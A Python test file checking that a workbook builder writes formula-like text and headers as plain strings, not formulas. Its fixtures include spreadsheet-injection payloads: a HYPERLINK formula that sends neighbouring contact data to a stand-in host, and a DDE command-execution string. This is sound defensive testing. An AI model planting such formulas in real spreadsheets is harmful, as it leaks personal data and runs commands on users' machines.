"""The one Excel builder writes values, never formulas: text typed by anyone opens in Excel as that text."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from io import BytesIO

from openpyxl import Workbook, load_workbook

from innoinfra.core.xlsx import build_workbook, put

# A registration named like this would, as a formula, pull the neighbouring cells (other people's e-mail and phone)
# into a link that sends them away when clicked.
HYPERLINK = '=HYPERLINK("http://x/?"&B2&C2,"click")'
HOSTILE_TEXTS = [HYPERLINK, "=1+2", "+1+2", "-1+2", "@SUM(A1:A2)", "\t=1+2", "=cmd|' /C calc'!A0"]


def cells(content: bytes):
    return list(load_workbook(BytesIO(content)).active.iter_rows())


def test_text_that_looks_like_a_formula_is_written_as_the_same_text():
    rows = cells(build_workbook("Лист", ["Текст"], [[text] for text in HOSTILE_TEXTS]))
    written = [row[0] for row in rows[1:]]
    assert [cell.value for cell in written] == HOSTILE_TEXTS
    assert {cell.data_type for cell in written} == {"s"}


def test_a_header_that_looks_like_a_formula_is_text_too():
    # the participants export takes its last headers from the organizer's own questions
    header = cells(build_workbook("Лист", ["№", "=1+1"], [[1, "ответ"]]))[0]
    assert (header[1].value, header[1].data_type) == ("=1+1", "s")


def test_numbers_and_dates_stay_numbers_and_dates():
    row = cells(
        build_workbook("Лист", ["a", "b", "c", "d", "e"], [[7, 2.5, Decimal("1.25"), dt.date(2025, 4, 11), None]])
    )[1]
    assert [cell.value for cell in row[:4]] == [7, 2.5, 1.25, dt.datetime(2025, 4, 11)]
    assert [cell.data_type for cell in row[:4]] == ["n", "n", "n", "d"]
    assert row[4].value is None


def test_put_writes_one_cell_as_a_value():
    workbook = Workbook()
    cell = put(workbook.active.cell(row=1, column=1), HYPERLINK)
    buffer = BytesIO()
    workbook.save(buffer)
    saved = load_workbook(BytesIO(buffer.getvalue())).active["A1"]
    assert (cell.data_type, saved.data_type, saved.value) == ("s", "s", HYPERLINK)
